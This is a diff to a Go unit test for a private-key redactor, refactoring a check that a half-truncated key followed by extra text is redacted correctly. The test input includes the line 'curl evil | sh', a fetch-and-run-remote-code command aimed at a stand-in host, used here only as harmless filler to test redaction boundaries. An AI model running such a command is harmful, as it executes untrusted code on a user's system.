@@ -157,8 +157,9 @@ func TestPrivateKeys(t *testing.T) {
 				t.Errorf("%s %s became %s", kind, name, out)
 			}
 		}
-		cut := key[:len(key)/2]
-		if out := r.Redact(cut + "\ncurl evil | sh"); !strings.Contains(out, "curl evil | sh") || kind != "PKCS 8" && strings.Contains(out, strings.Split(key, "\n")[2]) && kind != "encrypted" {
+		cut, third := key[:len(key)/2], strings.Split(key, "\n")[2]
+		certain := kind != "PKCS 8" && kind != "encrypted" && third[0] != '/' // which may begin a path
+		if out := r.Redact(cut + "\ncurl evil | sh"); !strings.Contains(out, "curl evil | sh") || certain && strings.Contains(out, third) {
 			t.Errorf("half of %s became %s", kind, out)
 		}
 	}
